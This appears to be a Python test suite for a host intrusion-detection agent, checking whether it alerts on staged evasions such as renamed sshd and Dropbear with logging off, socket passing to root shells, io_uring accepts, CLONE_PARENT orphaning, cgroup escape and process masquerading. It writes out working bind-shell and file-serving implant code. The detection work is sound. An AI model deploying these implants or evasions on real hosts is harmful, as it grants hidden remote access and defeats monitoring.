"""Attempts that take seconds: renamed servers, sockets that change hands, io_uring, programs that hide in a session."""
import re
import subprocess
import sys

from evasion import (LESS, LOG, NOT, PASSWORD, PROCESSES, PYTHON, SERVER, SOCKETS, attempt, copied, ended,
                     given, program, ran, root_session, session_ran, started, talk, told_of)
from harness import Client, Sshd, brief, check, the_journal
from sandbox import TMP, Skip, run
from services import Server, port

BLIND = "access.shell_without_auth"


@attempt(LOG, "sshd under another name on another port, `LogLevel QUIET`",
         "the session with account, origin, port and commands, by PAM alone")
def sshd_renamed_on_another_port(w):
    name, _ = w.users.add("renamed")
    source, number = w.place(), port()
    sshd = Sshd(w.net, w.net.srv, [w.server], port=number, binary=copied("/usr/sbin/sshd", "updaterd"),
                LogLevel="QUIET")
    c = Client(w.net, source)
    c.guess(name, w.server, 1, port=number)
    c.ssh(name, w.server, "/bin/echo renamed-mark; sleep 1", password=PASSWORD, port=number, check_rc=0)
    s = session_ran(w, "renamed-mark", account=name, origin__address=source)
    check(s["failures_before"] == 1 and s["origin"]["source"] == "socket", "who, and how often he tried", s)
    said = [e for e in the_journal().entries() if source in str(e["MESSAGE"]) and "Accepted" in str(e["MESSAGE"])]
    check(not said, "sshd has logged it", said)
    a = w.agent.alert(detection="access.external", account=name)
    check(a["origin"]["address"] == source, "from where", a)
    sshd.stop()


@attempt(LOG, "the same with `UsePAM no`: neither a log nor PAM, a terminal",
         "the session with origin, account and commands, and that nothing told how its user logged in", LESS,
         "the method and the guesses before it: passwords are compared in the server's own memory, and no system call "
         "tells of it")
def sshd_renamed_that_says_nothing(w):
    name, key = w.users.add("mute", key=True)
    source, number = w.place(), port()
    sshd = Sshd(w.net, w.net.srv, [w.server], port=number, binary=copied("/usr/sbin/sshd", "updaterd"),
                LogLevel="QUIET", UsePAM="no")
    p = Client(w.net, source).ssh(name, w.server, ["-tt"], key=key, port=number,
                                  stdin=b"/bin/echo mute-mark\nsleep 4\n/bin/echo mute-late\nexit\n")
    check(b"mute-late" in p.stdout, "the session works", repr(p))
    s = session_ran(w, "mute-late", origin__address=source)
    check(s["account"] == name, "whose shell", s)
    told = told_of(w, source)
    check([a for a in told if a["detection"] in (BLIND, "access.external")], "told: " + brief(told))
    sshd.stop()


@attempt(SERVER, "Dropbear under another name that logs nowhere, a terminal",
         "the session with origin, account and commands", LESS,
         "the method: there is no PAM, no log, and a password is compared in its own memory")
def dropbear_renamed_that_logs_nowhere(w):
    name, _ = w.users.add("mutedb")
    source, number = w.place(), port()
    key = "%s/mutedb-%d" % (TMP, number)
    subprocess.run(["dropbearkey", "-t", "ed25519", "-f", key], check=True, stdout=subprocess.DEVNULL)
    d = Server(w, [copied("/usr/sbin/dropbear", "netsyncd"), "-F", "-E", "-p", "%s:%d" % (w.server, number), "-r",
                   key], [number])
    p = Client(w.net, source).ssh(name, w.server, ["-tt"], password=PASSWORD, port=number,
                                  stdin=b"/bin/echo netsync-mark\nsleep 4\n/bin/echo netsync-late\nexit\n")
    check(b"netsync-late" in p.stdout, "the session works", repr(p))
    s = session_ran(w, "netsync-late", origin__address=source)
    check(s["account"] == name, "whose shell", s)
    told = told_of(w, source)
    check([a for a in told if a["detection"] in (BLIND, "access.external")], "told: " + brief(told))
    d.stop()


# --- sockets

def passed(w, stem, *how):
    """A connection that one process accepts and another has: (port, the two)."""
    path, number = "%s/pass-%s" % (TMP, stem), port()
    taker = started(w, w.net.srv, PYTHON, program("fdpass.py"), "take", path, *how)
    giver = started(w, w.net.srv, PYTHON, program("fdpass.py"), "accept", path, number)
    return number, (taker, giver)


@attempt(SOCKETS, "accepted by one process, passed over a local socket (SCM_RIGHTS), a shell in another",
         "`access.shell_without_auth` with the true origin, and what the shell ran")
def socket_passed_to_a_shell(w):
    source = w.place()
    number, both = passed(w, "shell", "shell")
    got = talk(w, source, w.server, number, "1:id", "3:uname -a", "3:/bin/echo passed-mark", "1:exit")
    check(b"uid=0" in got, "the shell works", got)
    a = w.agent.alert(detection=BLIND, origin__address=source)
    check(a["severity"] == "critical" and a["account"] == "root" and str(number) in a["sentence"], "what it is", a)
    session_ran(w, "passed-mark", origin__address=source)
    ended(*both)


@attempt(SOCKETS, "the same, relayed to a terminal", "`access.shell_without_auth` with the true origin")
def socket_passed_to_a_terminal(w):
    source = w.place()
    number, both = passed(w, "pty", "pty")
    got = talk(w, source, w.server, number, "1:id", "3:/bin/echo passed-pty", "1:exit")
    check(b"uid=0" in got, "the shell works", got)
    a = w.agent.alert(detection=BLIND, origin__address=source)
    check(a["severity"] == "critical" and str(number) in a["sentence"], "what it is", a)
    session_ran(w, "passed-pty", origin__address=source)
    ended(*both)


@attempt(SOCKETS, "accepted in one process, sshd started by another that was passed the connection",
         "the session with its true origin, account and commands")
def socket_passed_to_sshd(w):
    name, _ = w.users.add("passed")
    source = w.place()
    config, key = TMP + "/passed-config", TMP + "/passed-key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key], check=True)
    with open(config, "w") as f:
        f.write("HostKey %s\nUsePAM yes\nPasswordAuthentication yes\nPidFile none\n" % key)
    number, both = passed(w, "sshd", "/usr/sbin/sshd", "-i", "-f", config)
    Client(w.net, source).ssh(name, w.server, "/bin/echo handed-mark", password=PASSWORD, port=number, check_rc=0)
    s = session_ran(w, "handed-mark", account=name)
    check(s["origin"]["address"] == source and s["origin"]["source"] == "socket" and s["method"] == "password",
          "whose connection", s)
    ended(*both)


@attempt(SOCKETS, "`accept` by io_uring without a place for the peer's address, and a shell on the connection",
         "`access.shell_without_auth` with the true origin (from Linux 5.12)")
def io_uring_accepts(w):
    source, number = w.place(), port()
    try:
        p = started(w, w.net.srv, PYTHON, program("uring.py"), "accept", number)
    except Exception as e:
        if "no io_uring" in str(e):
            raise Skip(str(e))
        raise
    got = talk(w, source, w.server, number, "1:id", "3:uname -a", "3:id", "1:exit")
    check(b"uid=0" in got, "the shell works", got)
    a = w.agent.alert(detection=BLIND, origin__address=source)
    check(a["severity"] == "critical" and a["origin"]["source"] == "socket", "what it is", a)
    ended(p)


@attempt(SOCKETS, "`connect` by io_uring from a session to another host",
         "`activity.lateral_movement` with the destination")
def io_uring_connects(w):
    name, key = w.users.add("uring", key=True)
    source = w.place()
    p = Client(w.net, source).ssh(name, w.server, "python3 %s connect 10.20.0.2 22" % given(name, "uring.py"), key=key)
    if p.returncode == 77:
        raise Skip(p.stdout.decode())
    check(p.stdout.startswith(b"SSH-2.0"), "the other host answered", repr(p))
    a = w.agent.alert(detection="activity.lateral_movement", account=name)
    check("10.20.0.2" in a["sentence"] and a["origin"]["address"] == source, "where it went", a)


# --- processes

# fork by clone(CLONE_PARENT): the child is its parent's sibling; then exec from a thread that leads nothing
SIBLING = """import ctypes, os, platform, threading, time
number = {'x86_64': 56, 'aarch64': 220}[platform.machine()]
if ctypes.CDLL(None).syscall(number, 0x8000 | 17, 0, 0, 0, 0) == 0:
    os.setsid()
    threading.Thread(target=lambda: os.execv('/bin/echo', ['sibling-mark'])).start()
    time.sleep(60)
time.sleep(1)"""


@attempt(PROCESSES, "`clone(CLONE_PARENT)`, so that the child is nobody's, and exec by a thread of it",
         "both programs in their session")
def clone_parent_and_exec_by_a_thread(w):
    name, key = w.users.add("sibling", key=True)
    source = w.place()
    with open("/home/%s/s.py" % name, "w") as f:
        f.write(SIBLING)
    Client(w.net, source).ssh(name, w.server, "python3 s.py; sleep 1", key=key, check_rc=0)
    session_ran(w, "sibling-mark", account=name, origin__address=source)


@attempt(PROCESSES, "a shell that runs nothing but its own builtins, fed by stdin",
         "the session with its interpreter, its bytes both ways and its end", LESS,
         "which files it read: open and read are no program's start; a hook on every system call would slow the whole "
         "host")
def nothing_but_builtins(w):
    name, key = w.users.add("builtin", key=True)
    source = w.place()
    script = b"while read -r l; do echo \"$l\"; done < /etc/passwd\n" * 40
    p = Client(w.net, source).ssh(name, w.server, [], key=key, stdin=script)
    check(p.stdout.count(b"root:x:0:0") == 40, "it read the file", repr(p.stderr))
    s = w.agent.session(account=name, origin__address=source, state="closed")
    check(s["bytes_out"] > len(p.stdout) and s["bytes_in"] > len(script), "how much went either way", s)
    check(not [c for c in s["commands"] if "passwd" in c["text"]], "what it read is told after all", s)
    check([c for c in s["commands"] if "bash" in c["text"]], "its interpreter", s)


@attempt(PROCESSES, "a program that calls itself another (`exec -a /usr/sbin/cron`)",
         "the words that it chose, and before them the path of the program that really runs")
def a_program_under_a_daemons_name(w):
    name, key = w.users.add("alias", key=True)
    source = w.place()
    Client(w.net, source).ssh(name, w.server, "bash -c 'exec -a /usr/sbin/cron python3 -c 1 alias-mark'", key=key,
                              check_rc=0)
    s = session_ran(w, "alias-mark", account=name, origin__address=source)
    text = ran(s, "alias-mark")[0]["text"]
    check(re.match(r"\[/\S*/python3\] /usr/sbin/cron -c 1 alias-mark", text), "what really runs", text)
    plain = [c["text"] for c in s["commands"] if c["text"].startswith("[") and "cron" not in c["text"]]
    check(not plain, "who says his own name is left alone", plain)


# into a cgroup of its own and back
MOVE = """top=%s new=$top/og-%s old=$top$(sed -n s/^0:://p /proc/self/cgroup)
mkdir $new && echo $$ > $new/cgroup.procs && /bin/echo cgroup-mark
echo $$ > $old/cgroup.procs && rmdir $new
"""


@attempt(PROCESSES, "a process that leaves the session's cgroup and moves into one of its own",
         "what it runs from there, in its session")
def another_cgroup(w):
    top = run(["findmnt", "-n", "-o", "TARGET", "-t", "cgroup2"], check=False).stdout.decode().split()
    if not top:
        raise Skip("no cgroup2 is mounted")
    name, source, as_root = root_session(w, "cgroup")
    with open("/home/%s/move.sh" % name, "w") as f:
        f.write(MOVE % (top[0], name))
    as_root("sh /home/%s/move.sh" % name)
    session_ran(w, "cgroup-mark", account=name, origin__address=source)


# --- shells without a terminal

# accept, then a shell between two pipes
PIPES = """import os, socket, subprocess, sys, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('0.0.0.0', int(sys.argv[1]))); s.listen(); print('ready', flush=True)
c, _ = s.accept()
p = subprocess.Popen(['/bin/sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
def down():
    while True:
        d = os.read(p.stdout.fileno(), 4096)
        if not d: break
        c.sendall(d)
threading.Thread(target=down, daemon=True).start()
while True:
    d = c.recv(4096)
    if not d: break
    p.stdin.write(d); p.stdin.flush()"""


@attempt(SERVER, "a bind shell between two pipes, without a terminal (`nc -l | sh`)",
         "`access.shell_without_auth` with the origin and what it ran")
def shell_behind_pipes(w):
    source, number = w.place(), port()
    p = started(w, w.net.srv, sys.executable, "-c", PIPES, number)
    got = talk(w, source, w.server, number, "1:id", "3:uname -a", "3:/bin/echo pipes-mark", "1:exit")
    check(b"uid=0" in got and b"pipes-mark" in got, "the shell works", got)
    a = w.agent.alert(detection=BLIND, origin__address=source)
    check(a["severity"] == "critical" and str(number) in a["sentence"], "what it is", a)
    session_ran(w, "pipes-mark", origin__address=source)
    ended(p)


@attempt(SERVER, "an implant that serves commands in its own process: no program, no shell, no terminal",
         "nothing", NOT,
         "accept, open, read and send are what every server does; nothing in the kernel tells them apart")
def an_implant_that_runs_no_program(w):
    source, number = w.place(), port()
    p = started(w, w.net.srv, sys.executable, "-c",
                "import socket,sys\ns=socket.socket();s.bind(('0.0.0.0',int(sys.argv[1])));s.listen()\n"
                "print('ready',flush=True)\nc=s.accept()[0]\n"
                "while True:\n d=c.recv(99)\n if not d: break\n c.sendall(open(d.decode().strip()).read().encode())",
                number)
    got = talk(w, source, w.server, number, "0:/etc/passwd", "1:/etc/hostname")
    check(b"root:x:0:0" in got, "it serves", got)
    w.settle()
    told = told_of(w, source)
    check(not told and not w.agent.sessions(origin__address=source), "told after all: " + brief(told))
    ended(p)
